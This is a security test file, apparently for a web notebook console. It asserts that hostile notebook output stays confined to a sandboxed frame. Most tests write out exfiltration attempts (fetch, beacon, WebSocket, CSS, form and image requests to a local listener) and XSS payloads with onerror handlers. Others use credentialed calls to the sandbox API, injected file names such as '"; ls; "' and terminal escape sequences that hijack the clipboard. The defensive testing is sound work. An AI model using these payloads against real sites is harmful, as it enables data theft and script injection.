// Never owned: output that is hostile reaches neither the page, nor the API, nor anybody else, whatever a person clicks.
import assert from 'node:assert/strict'
import { after, before } from 'node:test'
import { button, clipboard, editor, press, run } from './act.mjs'
import { Listener } from './listener.mjs'
import { goto, house } from './page.mjs'

const { scene, tab: blank } = house()
let listener
before(async () => (listener = await Listener.open()))
after(() => listener?.close())

/** own are violations that the page's policy is for: a frame that would go elsewhere, and what is taken out of HTML before it is shown. */
const own = /^policy: (frame-src |script-src-attr inline |base-uri )/

/** attack is a scene whose violations of the policy are wanted, where they are of the frame, or of what may be in the page's frames. */
const attack = (name, body) =>
  scene(name, async (scene) => {
    const { page, tab } = scene
    const box = await scene.server.sandbox()
    await goto(page, box.at())
    await editor(page).waitFor()
    listener.heard = []
    const html = (code) => run(page, `from IPython.display import HTML\nHTML(${JSON.stringify(code)})`)
    await body({ ...scene, box, html })
    assert.deepEqual(listener.heard, [], 'what the listener heard')
    await press(button(page, /^Commands/)) // the page is still ours, and answers
    await page.getByRole('combobox', { name: 'Commands' }).waitFor()
    tab.faults = tab.faults.filter((fault) => fault.startsWith('policy:') && !/ at \S+\/console\/frame(#.*)?$/.test(fault) && !own.test(fault))
  })

const frame = (cell) => cell.outputs.frameLocator('iframe')

/** live has the scripts of a cell's output run, and waits for its last word. */
async function live(cell) {
  await press(button(cell.at, 'Run scripts in this output'))
  await frame(cell).locator('#over').waitFor({ state: 'attached' })
  return frame(cell).locator('#over').innerText()
}

/** script is HTML with a script that says what came of each try. */
const script = (tries) => `<script>(async () => {
  const said = []
  const tries = {${tries}}
  for (const [name, one] of Object.entries(tries)) {
    try { said.push(name + ': ' + (await one())) } catch (e) { said.push(name + ': ' + e.name) }
  }
  const over = document.createElement('pre'); over.id = 'over'; over.textContent = said.join('\\n'); document.body.append(over)
})()</script>`

scene('the listener hears what nothing stops, or these tests prove nothing', async () => {
  const tab = await blank()
  const { page } = tab
  await page.goto(listener.url)
  await page.evaluate((url) => fetch(url + '/control', { mode: 'no-cors' }), listener.url)
  assert.ok(listener.heard.includes('GET /control HTTP/1.1'), listener.heard.join())
  await tab.context.close()
})

attack('scripts of an output reach nothing of the page', async ({ html, page }) => {
  const said = await live(
    await html(
      script(`
    document: () => parent.document.body.innerHTML,
    top: () => top.document.cookie,
    storage: () => localStorage.length,
    session: () => sessionStorage.length,
    cookie: () => document.cookie,
    database: () => indexedDB.open('x'),
    caches: () => caches.keys(),
    worker: () => navigator.serviceWorker.register('/console/frame'),
    opened: () => window.open('about:blank') === null ? 'null' : 'opened',
    frames: () => parent.frames.length > 1 ? parent.frames[1].document : Promise.reject(new DOMException('', 'SecurityError')),
    clipboard: () => navigator.clipboard.readText(),
    alert: () => (alert('x'), 'nothing'),
    inline: () => eval('"works"')`),
    ),
  )
  const errors = Object.fromEntries(said.split('\n').map((line) => line.split(': ')))
  for (const name of ['document', 'top', 'storage', 'session', 'cookie', 'database', 'frames']) assert.equal(errors[name], 'SecurityError', name)
  for (const name of ['caches', 'worker', 'clipboard']) assert.match(errors[name], /Error$/, name)
  assert.deepEqual([errors.opened, errors.alert, errors.inline], ['null', 'nothing', 'works'])
  assert.equal(page.context().pages().length, 1)
})

attack('scripts of an output reach no other server', async ({ html }) => {
  const out = JSON.stringify(listener.url)
  const element = (name, tag, attributes) => `
    ${name}: () => new Promise((done) => {
      const node = Object.assign(document.createElement('${tag}'), ${attributes})
      node.onload = () => done('loaded'); node.onerror = () => done('refused')
      node.oncanplay = node.onload
      document.body.append(node)
    })`
  const said = await live(
    await html(
      script(`
    fetch: () => fetch(${out} + '/fetch', { mode: 'no-cors' }).then(() => 'out'),
    post: () => fetch(${out} + '/post', { method: 'POST', mode: 'no-cors', body: 'x', keepalive: true }).then(() => 'out'),
    xhr: () => new Promise((done) => { const x = new XMLHttpRequest(); x.onload = () => done('out'); x.onerror = () => done('refused'); x.open('GET', ${out} + '/xhr'); x.send() }),
    beacon: () => navigator.sendBeacon(${out} + '/beacon', 'x') ? 'taken' : 'refused',
    socket: () => new Promise((done) => { const s = new WebSocket(${out}.replace('http', 'ws')); s.onopen = () => done('out'); s.onerror = () => done('refused') }),
    events: () => new Promise((done) => { const s = new EventSource(${out}); s.onopen = () => done('out'); s.onerror = () => { s.close(); done('refused') } }),
    ${element('image', 'img', `{ src: ${out} + '/img' }`)},
    ${element('script', 'script', `{ src: ${out} + '/script' }`)},
    ${element('style', 'link', `{ rel: 'stylesheet', href: ${out} + '/style' }`)},
    ${element('video', 'video', `{ src: ${out} + '/video' }`)},
    module: () => import(${out} + '/module').then(() => 'out'),
    worker: () => new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(${out} + '/worker') + ", { mode: 'no-cors' }).then(() => postMessage('out'), () => postMessage('refused'))"]))); w.onmessage = (e) => done(e.data); w.onerror = () => done('refused') }),
    css: () => { document.body.insertAdjacentHTML('beforeend', '<div style="background: url(' + ${out} + '/css)">x</div><style>@import url(' + ${out} + '/import); @font-face { font-family: f; src: url(' + ${out} + '/font) } p { font-family: f }</style><p>x</p>'); return document.fonts.load('12px f').then(() => 'tried') },
    markup: () => { document.body.insertAdjacentHTML('beforeend', ['<object data="U/object"></object>', '<embed src="U/embed">', '<iframe src="U/iframe"></iframe>', '<link rel=prefetch href="U/prefetch">', '<link rel=preload as=image href="U/preload">', '<link rel=icon href="U/icon">', '<link rel=manifest href="U/manifest">', '<input type=image src="U/input">', '<svg><image href="U/svg"/></svg>', '<a id=ping href="#x" ping="U/ping">x</a>', '<form id=form action="U/form"><button></button></form>', '<audio src="U/audio" autoplay></audio>', '<track src="U/track">', '<picture><source srcset="U/srcset"><img src="U/picture"></picture>'].join('').replaceAll('U', ${out})); document.querySelector('#ping').click(); document.querySelector('#form').submit(); document.querySelector('#form button').click(); return 'tried' },
    report: () => { new ReportingObserver(() => undefined).observe(); return 'tried' },
    frames: () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => done('drawn'))))`),
    ),
  )
  const open = said.split('\n').filter((line) => /: (out|loaded)$/.test(line))
  assert.deepEqual(open, [], said)
})

attack('scripts of an output do not reach the API', async ({ html, box, server }) => {
  const path = `${server.url}/v1/sandboxes/${box.id}`
  const said = await live(
    await html(
      script(`
    get: () => fetch(${JSON.stringify(path)}, { credentials: 'include' }).then((a) => 'answered ' + a.status),
    blind: () => fetch(${JSON.stringify(path)}, { mode: 'no-cors', credentials: 'include' }).then(() => 'sent'),
    post: () => fetch(${JSON.stringify(path + '/code')}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{"code":"open(\\'owned\\', \\'w\\')"}' }).then(() => 'sent'),
    beacon: () => (navigator.sendBeacon(${JSON.stringify(path + '/close')}, '{}'), 'tried'),
    form: () => { document.body.insertAdjacentHTML('beforeend', '<form method=post action=${JSON.stringify(path + '/close')}></form>'); document.forms[0].submit(); return 'tried' },
    image: () => new Promise((done) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('refused'); i.src = ${JSON.stringify(path + '/files?path=x')} }),
    socket: () => new Promise((done) => { const s = new WebSocket(${JSON.stringify(path.replace('http', 'ws') + '/processes/1/attach')}); s.onopen = () => done('out'); s.onerror = () => done('refused') })`),
    ),
  )
  assert.ok(!/answered|sent|loaded|out/.test(said), said)
  assert.equal((await box.ask('GET', '')).state, 'running')
  const { entries } = await box.ask('GET', '/files/list?path=.')
  assert.ok(!entries.some((entry) => entry.name === 'owned'))
})

/** leaves is an attack by a script that goes elsewhere; the page's policy has to stop that, and it says so. */
const leaves = (name, code) =>
  attack(name, async ({ html, tab, page, box }) => {
    const cell = await html(`<script>${code(listener.url, box)}</script>`)
    await press(button(cell.at, 'Run scripts in this output'))
    await tab.fault(/^policy: frame-src /)
    assert.match(page.url(), /\/console\/#\/sb\//)
  })

leaves('an output that goes to another site', (url) => `location = ${JSON.stringify(url + '/location')}`)
leaves('an output that is sent to another site', (url) => `document.body.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=${url}/meta">')`)
leaves('an output that goes to a program inside, by its port', (_, box) => `location = '/v1/sandboxes/${box.id}/ports/8000/'`)
leaves('an output that goes to a file inside', (_, box) => `location = '/v1/sandboxes/${box.id}/files?path=evil.html'`)
leaves('an output that goes to the page itself', () => `location = '/console/'`)

attack('an output that would have the whole page go, or open another', async ({ html, page }) => {
  const said = await live(
    await html(
      script(`
    top: () => { top.location = ${JSON.stringify(listener.url + '/top')}; return 'tried' },
    parent: () => { parent.location.replace(${JSON.stringify(listener.url + '/parent')}); return 'tried' },
    opened: () => window.open(${JSON.stringify(listener.url + '/open')}) ? 'opened' : 'null',
    link: () => { const a = document.createElement('a'); a.href = ${JSON.stringify(listener.url + '/a')}; a.target = '_top'; document.body.append(a); a.click(); return 'tried' },
    blank: () => { const a = document.createElement('a'); a.href = ${JSON.stringify(listener.url + '/blank')}; a.target = '_blank'; document.body.append(a); a.click(); return 'tried' }`),
    ),
  )
  assert.match(said, /opened: null/)
  assert.equal(page.context().pages().length, 1)
  assert.match(page.url(), /\/console\/#\/sb\//)
})

attack('an output that never stops does not stop the page, and can be stopped', async ({ html, page }) => {
  const cell = await html('<b>before</b><script>setTimeout(() => { for (;;) ; })</script>')
  await press(button(cell.at, 'Run scripts in this output'))
  await (await run(page, "print('meanwhile')")).says('meanwhile')
  await press(button(cell.at, 'Stop output'))
  await cell.at.getByText('Output stopped.').waitFor()
  await cell.at.locator('iframe').waitFor({ state: 'detached' })
})

attack('what an output says to the page is not believed', async ({ html, page }) => {
  const said = await live(
    await html(
      script(`
    odd: async () => {
      for (const message of [{ height: 1e9 }, { height: -5 }, { height: NaN }, { height: '9999' }, { error: '<img src=x onerror=alert(1)>'.repeat(500) }, { ready: true }, { html: '<b>' }, 'text', null, 7, [1], { __proto__: { height: 5 } }, { ready: 'yes' }]) parent.postMessage(message, '*')
      return 'said'
    }`),
    ),
  )
  assert.match(said, /said/)
  await page.getByText(/<img src=x onerror=alert\(1\)>/).first().waitFor() // as text
  const height = await page.locator('iframe').evaluate((node) => node.clientHeight)
  assert.ok(height >= 0 && height <= 4000, `a height of ${height}`)
  assert.equal(await page.locator('img[src="x"]').count(), 0)
})

const bait = () => `<img src="${listener.url}/bait" onerror="fetch('${listener.url}/onerror')"><script src="${listener.url}/script"></script>`

attack('HTML without scripts is shown, and fetches nothing', async ({ html }) => {
  const u = listener.url
  const cell = await html(`<p id=here>shown</p>${bait()}<style>@import url(${u}/import); p { background: url(${u}/css) }</style><link rel=stylesheet href="${u}/style"><link rel=preconnect href="${u}"><link rel=dns-prefetch href="${u}">
    <iframe src="${u}/iframe" srcdoc="<script>fetch('${u}/srcdoc')</script>"></iframe><object data="${u}/object"></object><embed src="${u}/embed"><form action="${u}/form"><input name=a autofocus></form>
    <a id=link href="javascript:fetch('${u}/javascript')">link</a><svg><script>fetch('${u}/svg')</script><image href="${u}/image"/></svg><video src="${u}/video" poster="${u}/poster"></video><meta http-equiv=refresh content="0;url=${u}/refresh"><base href="${u}">
    <math><mtext><table><mglyph><style><img src=x onerror="fetch('${u}/mutation')">`)
  await frame(cell).locator('#here').waitFor()
  await frame(cell).getByText('link').click()
  await frame(cell).locator('#here').waitFor()
  assert.equal(await frame(cell).locator('script, iframe, object, embed, form, link, meta[http-equiv=refresh], [onerror]').count(), 0)
})

attack('a link in an output leads nowhere before a person has read where', async ({ html, page }) => {
  const out = listener.url + '/out'
  const cell = await html(`<a id=out href="${out}">out</a> <a id=self href="/v1/sandboxes">self</a> <a id=script href="javascript:fetch('${out}')">script</a> <a id=data href="data:text/html,x">data</a>`)
  await press(frame(cell).locator('#out'))
  const link = cell.at.getByRole('status').getByRole('link')
  await link.waitFor()
  for (const id of ['self', 'script', 'data']) await frame(cell).locator(`#${id}`).dispatchEvent('click')
  await frame(cell).locator('#out').waitFor()
  assert.deepEqual(await link.evaluate(({ href, target, rel }) => [href, target, rel]), [out, '_blank', 'noopener noreferrer nofollow'])
  assert.equal(await link.innerText(), out)
  assert.equal(page.context().pages().length, 1)
})

attack('SVG and Markdown are shown, and fetch nothing', async ({ page }) => {
  const svg = await run(page, `from IPython.display import SVG, Markdown\nSVG(${JSON.stringify(`<svg xmlns="http://www.w3.org/2000/svg" width="40" height="10" onload="fetch('${listener.url}/load')"><script>fetch('${listener.url}/script')</script><image href="${listener.url}/image" width="5" height="5"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${'<b>x</b>'}</body></foreignObject></svg>`)})`)
  await svg.outputs.locator('img').waitFor()
  await page.waitForFunction(() => document.querySelector('.outputs img').naturalWidth === 40)
  const markdown = await run(page, `Markdown(${JSON.stringify(`# title\n\n![x](${listener.url}/image) [go](javascript:fetch('${listener.url}'))\n\n${bait()}`)})`)
  await frame(markdown).getByRole('heading', { name: 'title' }).waitFor()
})

attack('hostile text is text wherever it is shown', async ({ page, box }) => {
  const evil = JSON.stringify(bait())
  await box.code(`evil = ${evil}`)
  const printed = await run(page, "import sys\nprint(evil)\nprint(evil, file=sys.stderr)\nprint('\\x1b]8;;javascript:alert(1)\\x07click\\x1b]8;;\\x07')")
  await printed.says(/<img src=/)
  await (await run(page, 'raise type(evil, (Exception,), {})(evil)')).says(/<img src=/)
  const table = await run(page, 'import pandas as pd\npd.DataFrame({evil: [evil]})')
  await table.outputs.getByRole('cell').getByText(/<img src=/).waitFor()
  await run(page, "from IPython.display import display\ndisplay({'application/' + evil + '+json': {evil: evil}, 'text/plain': evil}, raw=True)")
  const asks = await run(page, 'input(evil)')
  await asks.at.getByLabel(/<img src=/).fill(bait())
  await asks.at.getByLabel(/<img src=/).press('Enter')
  await asks.state('done')
  await button(page, 'Variables').click()
  await page.getByRole('row', { name: /evil str/ }).waitFor()
  assert.equal(await page.locator('article a[href^="javascript"], article img, .ansi a, .text a').count(), 0)

  await box.code("open(evil.replace('/', '_')[:200], 'w').write(evil)")
  await goto(page, box.at('files'))
  await page.getByRole('option', { name: /<img src=/ }).click()
  await page.getByLabel(/Text of <img src=/).waitFor()
  await box.ask('POST', '/processes', { cmd: `exec sleep 10000 # ${bait()}`, background: true })
  await goto(page, box.at('terminal'))
  await page.getByRole('row', { name: /<img src=/ }).waitFor()
  await goto(page, box.at('activity'))
  await page.getByText(/<img src=/).first().waitFor()
  assert.equal(await page.locator('main img').count(), 0)
})

attack('hostile names of files are seen for what they are', async ({ page, box }) => {
  const names = ['\x1b[31mred', 'two\nlines', '\u202egnp.exe', '<b>bold<b>', 'a'.repeat(255), '-rf', '%2e%2e', '"; ls; "', "'$(ls)'"]
  await box.code(`import os
os.mkdir('names')
for name in ${JSON.stringify(names)}: open(os.path.join('names', name), 'w').write(name)
open(b'names/\\xff\\xfe', 'w').close()`)
  const { path } = await box.ask('GET', '/files/stat?path=names')
  await goto(page, `${box.at('files')}?path=${encodeURIComponent(path)}`)
  const list = page.getByRole('listbox')
  await list.locator(`[aria-setsize="${names.length + 1}"]`).first().waitFor()
  const seen = (name) => name.replace(/[\x00-\x1f\u202e]/g, (c) => '\\u' + c.codePointAt(0).toString(16).padStart(4, '0'))
  for (const name of names) {
    await list.getByRole('option').filter({ hasText: seen(name) }).click()
    await page.waitForFunction((name) => document.querySelector('section textarea')?.value === name, name)
    await page.getByRole('region', { name: seen(name), exact: true }).waitFor()
  }
  await list.getByRole('option').filter({ hasText: '\ufffd' }).click()
  await page.getByRole('alert').getByText('The name of this is no UTF-8').waitFor()
})

attack('a terminal takes no clipboard, no title and no link from what it shows', async ({ page, box }) => {
  await page.evaluate(() => navigator.clipboard.writeText('mine'))
  await box.write('evil.sh', `printf '\\033]52;c;%s\\a\\033]0;owned\\a\\033]8;;${listener.url}/link\\ahere\\033]8;;\\a' "$(printf owned | base64)"; printf '\\033[6n\\033[c\\033P+q544e\\033\\\\'; echo; echo 'sh''own'`)
  await goto(page, box.at('terminal'))
  await button(page, 'New terminal').click()
  await page.getByText('Live.', { exact: true }).waitFor()
  await page.locator('.xterm-helper-textarea').focus()
  await page.keyboard.type('sh ./evil.sh\n')
  await page.locator('.xterm-rows').getByText('shown').waitFor()
  assert.equal(await clipboard(page), 'mine')
  assert.doesNotMatch(await page.title(), /owned/)
  assert.equal(await page.locator('.xterm a').count(), 0)
})

scene('the frame of outputs has no origin, even where it is opened by itself', async ({ page, server }) => {
  await page.goto(server.url + '/console/frame')
  const said = await page.evaluate(() => {
    try {
      return document.cookie
    } catch (e) {
      return `${origin} ${e.name}`
    }
  })
  assert.equal(said, 'null SecurityError')
})

attack('the page itself makes no HTML of text', async ({ page, tab }) => {
  const thrown = await page.evaluate(async () => {
    const told = new Promise((done) => addEventListener('securitypolicyviolation', done, { once: true }))
    try {
      document.body.insertAdjacentHTML('beforeend', '<b>owned</b>')
    } catch (e) {
      await told
      return e.name
    }
  })
  assert.equal(thrown, 'TypeError')
  tab.faults = tab.faults.filter((fault) => !/trusted-types-sink Element insertAdjacentHTML/.test(fault))
})
